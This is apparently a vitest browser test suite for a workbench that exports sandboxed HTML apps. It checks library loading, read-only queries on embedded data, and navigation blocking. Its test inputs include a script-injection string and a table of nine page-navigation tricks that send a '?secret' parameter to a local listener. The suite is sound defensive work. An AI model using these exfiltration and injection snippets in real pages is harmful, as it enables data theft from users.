/**
 * Apps in exported files, opened from a disk under their policy: each library that they may use is there, each kind of document is drawn,
 * and data that was embedded is queried, with nobody to ask.
 */
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { DatabaseSync } from "node:sqlite";
import { pathToFileURL } from "node:url";
import { afterAll, beforeAll, describe, expect } from "vitest";
import { openWorkbench, type Workbench } from "../../src/index.ts";
import { appLibraries } from "../../src/sandbox/app-libraries.ts";
import { BROWSER_TEST_MS, browserTest, HOW_TO_GET_CHROMIUM, type OpenText } from "../support/browser.ts";
import { builtLibraries } from "../support/built-libraries.ts";
import { startListener } from "../support/listener.ts";
import { temporaryFolder } from "../support/run-penny.ts";
import { FEATURES } from "./sandbox/features.ts";

let workbench: Workbench;
const folder = temporaryFolder();

// Functions given to the page run there.
declare const penny: {
  query: (sql: string, params?: unknown) => Promise<{ columns: string[]; rows: unknown[][] }>;
  download: (name: string, content: string) => Promise<void>;
  store: { get: (key: string) => Promise<{ [name: string]: unknown } | undefined> };
};
declare function setTimeout(work: (given: unknown) => void, ms: number): void;

beforeAll(async () => {
  await builtLibraries();
  workbench = await openWorkbench({ dir: folder });
});

afterAll(() => workbench.close());

type Page = Awaited<ReturnType<OpenText>>["page"];

/** Takes in a document, takes it out as a file, opens that and looks. Nothing may go wrong in it, and it comes in again as it was. */
async function exported(
  open: OpenText,
  name: string,
  text: string,
  look: (page: Page) => Promise<void>,
): Promise<void> {
  const { app } = await workbench.apps.importApp(text, name);
  const file = await workbench.apps.exportApp(app.id);
  const { page, problems } = await open("app.html", file.text);
  await look(page);
  expect(problems).toEqual([]);
  await page.close();
  const again = await workbench.apps.importApp(file.text, "again.html");
  expect(again.content).toBe((await workbench.apps.show(app.id)).content);
  expect(again.version.kind).toBe(app.kind);
}

/** Tries each library, by script and by import; tells what came of each. */
const LIBRARIES = `<!doctype html>
<title>Libraries</title>
<link rel="stylesheet" href="https://cdn.jsdelivr.net/npm/uplot@1/dist/uPlot.min.css">
<script src="penny:tailwind"></script>
<script src="https://cdn.jsdelivr.net/npm/d3@7"></script>
<script src="penny:papaparse"></script>
<script src="penny:mermaid"></script>
<script type="importmap">{ "imports": { "own": "https://esm.sh/preact@10", "react": "https://esm.sh/react@18" } }</script>
<p class="font-light">light</p>
<div id="plot"></div><div id="fast"></div><div id="preact"></div>
<script>window.byScript = { d3: d3.sum([1, 2]), papaparse: Papa.parse("a,b").data[0].length, mermaid: typeof mermaid.render };</script>
<script type="module">
import * as Plot from "@observablehq/plot";
import uPlot from "uplot";
import { marked } from "marked";
import { html, render } from "htm/preact";
import { useState } from "react";
import { h } from "own";
import { signal } from "@preact/signals";
import { max } from "d3";
document.querySelector("#plot").append(Plot.plot({ marks: [Plot.dot([{ a: 1, b: 2 }], { x: "a", y: "b" })] }));
new uPlot({ width: 100, height: 100, series: [{}, {}] }, [[1, 2], [3, 4]], document.querySelector("#fast"));
const Count = () => { const [n] = useState(signal(7).value); return html\`<b>\${n}</b>\`; };
render(h(Count), document.querySelector("#preact"));
window.byImport = {
  plot: document.querySelectorAll("#plot circle").length,
  uplot: getComputedStyle(document.querySelector(".u-wrap")).position,
  marked: marked.parse("# a").trim(),
  preact: document.querySelector("#preact").innerHTML,
  d3: max([1, 5]),
};
</script>`;

/** Ways for a document to go to another address, `to`. */
const LEAVING: { [way: string]: string } = {
  assign: "location.href = to",
  replace: "location.replace(to)",
  link: `Object.assign(document.createElement("a"), { href: to }).click()`,
  form: `const form = Object.assign(document.createElement("form"), { action: to, method: "post" }); document.body.append(form); form.submit()`,
  refresh: `document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: "0;url=" + to }))`,
  navigate: "navigation.navigate(to)",
  download: `const link = Object.assign(document.createElement("a"), { href: to, download: "x" }); document.body.append(link); link.click()`,
  nested: `const frame = Object.assign(document.createElement("iframe"), { srcdoc: "<script>top.location = '" + to + "'<\\/script>" }); document.body.append(frame)`,
  rewritten: `document.open(); document.write("<script>location = '" + to + "'; window.done = true<\\/script>"); document.close()`,
};

describe("an exported file", { timeout: BROWSER_TEST_MS }, () => {
  browserTest("has each library that its app uses, by script, import, address or map of its own", async ({ open }) => {
    await exported(open, "libraries.html", LIBRARIES, async (page) => {
      await page.waitForFunction("globalThis.byImport");
      expect(await page.evaluate("byScript")).toEqual({ d3: 3, papaparse: 2, mermaid: "function" });
      expect(await page.evaluate("byImport")).toEqual({
        plot: 1,
        uplot: "relative",
        marked: "<h1>a</h1>",
        preact: "<b>7</b>",
        d3: 5,
      });
      await expect.poll(() => page.evaluate("getComputedStyle(document.querySelector('p')).fontWeight")).toBe("300");
    });
    for (const { name } of await appLibraries()) expect(LIBRARIES, "no library is left out").toContain(name);
  });

  browserTest("lets its app do what ordinary apps do, but nest a page in its page", async ({ open }) => {
    const { app } = await workbench.apps.importApp(FEATURES, "features.html");
    const { page, problems } = await open("app.html", (await workbench.apps.exportApp(app.id)).text);
    const works = await page.evaluate(async () => {
      for (;;) {
        const found = await penny.store.get("features");
        if (found) return found;
        await new Promise((done) => setTimeout(done, 50));
      }
    });
    expect(Object.entries(works).filter(([, does]) => does !== true)).toEqual([
      // What opens the page closes its dialogs, which answers them.
      ["confirm", false],
      ["prompt", false],
      ["frame of srcdoc", "no answer"],
    ]);
    expect(problems).toEqual(["dialog: x", "dialog: x"]);
    expect(await page.locator("penny-iframe").innerText()).toContain("shows no page within its page");
  });

  browserTest("is drawn, whatever its app is written in", async ({ open }) => {
    await exported(open, "note.md", "# Title\n\nA **word** & <i>more</i>.\n", async (page) => {
      expect(await page.locator("h1").innerText()).toBe("Title");
      expect(await page.locator("strong").innerText()).toBe("word");
    });
    await exported(open, "flow.mmd", 'graph TD\n  A["one"] --> B["two"]\n', async (page) => {
      await page.locator("svg >> text=two").waitFor();
      expect((await page.locator("svg").boundingBox())?.height).toBeGreaterThan(50);
    });
    const jsx = `import { useState } from "react";\n\nexport default function App() {\n  const [n, setN] = useState(0);\n  return <button onClick={() => setN(n + 1)}>{n} of {"</script>"}</button>;\n}\n`;
    await exported(open, "count.jsx", jsx, async (page) => {
      await page.locator("button").click();
      expect(await page.locator("button").innerText()).toBe("1 of </script>");
    });
  });

  browserTest("answers queries on the tables that its app may read, as the workbench does", async ({ open }) => {
    const evil = "</script><script>window.evil = 1</script>";
    const [csv, sqlite] = [join(folder, "sales.csv"), join(folder, "more.db")];
    writeFileSync(csv, `town,${evil},n\n${evil},x,1\nB,y,2\n`);
    const database = new DatabaseSync(sqlite);
    database.exec("CREATE TABLE t (big, bytes, none); INSERT INTO t VALUES (9007199254740993, x'0aff', NULL)");
    database.exec("CREATE TABLE secret (word); INSERT INTO secret VALUES ('hushhush')");
    database.close();
    const { app } = await workbench.apps.importApp("<!doctype html><title>Sales</title><p>x", "sales.html");
    await expect(workbench.apps.exportApp(app.id, { withData: true })).rejects.toThrow("may read no table");
    await workbench.data.give(app.id, { source: csv });
    await workbench.data.give(app.id, { source: sqlite, inside: "t" });
    await workbench.data.give(app.id, { source: sqlite, inside: "secret", table: "kept" });
    await workbench.data.allow(app.id, true, ["sales", "t"]);
    const file = await workbench.apps.exportApp(app.id, { withData: true });
    expect(file.embedded).toEqual([
      { table: "sales", rows: 2 },
      { table: "t", rows: 1 },
    ]);
    expect(file.text).toContain("holds data: sales, 2 rows\n");
    const { page, problems } = await open("app.html", file.text);
    const inFile = (sql: string, params?: unknown): Promise<unknown> =>
      page.evaluate(([text, given]) => penny.query(text, given).catch(String), [sql, params] as const);
    const here = async (sql: string, params?: (string | number)[] | { [name: string]: number }): Promise<unknown> => {
      const { columns, rows } = await workbench.data.query(app.id, "app", {
        sql,
        most: { rows: 10, bytes: 1000 },
        ...(params ? { params } : {}),
      });
      return { columns, rows };
    };
    for (const sql of ["SELECT * FROM sales", "SELECT * FROM t", "SELECT sum(n) AS total, max(town) FROM sales"])
      expect(await inFile(sql), sql).toEqual(await here(sql));
    const [asked, named] = ["SELECT town FROM sales WHERE n > ?", "SELECT town FROM sales WHERE n = :n"];
    expect(await inFile(asked, [1])).toEqual(await here(asked, [1]));
    expect(await inFile(named, { n: 2 })).toEqual(await here(named, { n: 2 }));
    expect(await inFile("SELECT * FROM kept")).toContain("no such table");
    expect(await inFile("SELECT 1; SELECT 2")).toContain("one SELECT");
    expect(await inFile("DELETE FROM sales")).toContain("one SELECT");
    expect(await inFile("DELETE FROM sales RETURNING n")).toContain("readonly");
    expect(await inFile("SELECT count(*) FROM sales")).toEqual({ columns: ["count(*)"], rows: [[2]] });
    expect(await page.evaluate("globalThis.evil")).toBeUndefined();
    expect(problems).toEqual([]);
  });

  browserTest("leaves for no address by itself, though a control does by each way", async ({ browser, skip }) => {
    if (!browser) return skip(HOW_TO_GET_CHROMIUM);
    const { at, heard, close } = await startListener();
    const context = await browser.newContext();
    const show = async (text: string, work: (page: Page) => Promise<unknown>): Promise<void> => {
      const path = join(folder, "hostile.html");
      writeFileSync(path, text);
      const page = await context.newPage();
      await page.goto(pathToFileURL(path).href);
      await work(page);
      await page.close();
    };
    try {
      for (const [way, script] of Object.entries(LEAVING)) {
        const hostile = `<!doctype html><title>${way}</title><body><script>const to = "http://${at}/${way}?secret"; setTimeout(() => { ${script} }); setTimeout(() => { window.done = true; }, 300);</script>`;
        const { app } = await workbench.apps.importApp(hostile, "hostile.html");
        const { text } = await workbench.apps.exportApp(app.id);
        await show(text, async (page) => {
          await page.waitForFunction("globalThis.done");
          expect(await page.evaluate("typeof RTCPeerConnection + typeof WebTransport")).toBe("undefinedundefined");
          expect(page.url(), way).toMatch(/^file:/);
        });
        await show(hostile.replace("?secret", "?control"), () =>
          expect.poll(() => heard.includes(`/${way}?control`), { message: way, timeout: 30_000 }).toBe(true),
        );
      }
      expect(heard.filter((url) => url.includes("secret"))).toEqual([]);
    } finally {
      await context.close();
      close();
    }
  });

  browserTest(
    "leaves for an address that a person clicks after a yes to the whole of it, and saves files",
    async ({ open }) => {
      const links = `<!doctype html><title>Links</title><a href="http://example.com/?a">here</a><a href="http://example.com/?b" target="_blank">there</a><a href="#c">down</a>`;
      const { app } = await workbench.apps.importApp(links, "links.html");
      const { page, problems } = await open("app.html", (await workbench.apps.exportApp(app.id)).text);
      for (const name of ["here", "there", "down"]) await page.click(`text=${name}`);
      expect(problems).toEqual(["dialog: Open http://example.com/?a ?", "dialog: Open http://example.com/?b ?"]);
      await expect.poll(() => page.url()).toMatch(/app\.html#c$/);
      const saved = page.waitForEvent("download");
      await page.evaluate(() => penny.download("note.txt", "hi"));
      expect((await saved).suggestedFilename()).toBe("note.txt");
    },
  );

  browserTest("is tried with the rows alone that a model may see", async ({ browser, skip }) => {
    if (!browser) return skip(HOW_TO_GET_CHROMIUM);
    const csv = join(folder, "tried.csv");
    writeFileSync(csv, "town\nOslo\nLima\n");
    const say = `<script>penny.query("SELECT town FROM tried").then(({ rows }) => { throw new Error(rows.join()); })</script>`;
    const { app } = await workbench.apps.importApp(`<!doctype html><title>Tried</title>${say}`, "tried.html");
    await workbench.data.give(app.id, { source: csv, sampleRows: 1 });
    const { problems } = await workbench.apps.tryOut(app.id);
    expect(problems).toEqual([{ kind: "error", text: "a promise was rejected: Error: Oslo" }]);
  });
});
